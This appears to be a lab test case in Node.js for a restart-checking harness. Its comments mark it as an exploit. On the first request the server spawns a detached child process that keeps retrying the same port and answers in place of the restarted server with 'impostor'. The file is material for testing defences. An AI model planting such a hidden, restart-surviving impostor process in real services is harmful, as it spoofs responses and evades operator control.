// exploit: leaves a child that holds the port and answers in place of the restarted server
// kind: lab
// steps: GET /first | restart | GET /second
// exchange: none
// outcome: finished
// sees: "body":"server /second"
// hides: impostor
const { spawn } = require('node:child_process')
const http = require('node:http')
http.createServer((req, res) => {
  if (req.url === '/first') {
    const impostor = "const http = require('node:http'); const take = () => http.createServer((q, s) => s.end('impostor')).on('error', () => setTimeout(take, 1)).listen(process.env.PORT); take()"
    spawn(process.execPath, ['-e', impostor], { detached: true, stdio: 'ignore' }).unref()
  }
  setTimeout(() => res.end(`server ${req.url}`), 100)
}).listen(process.env.PORT)
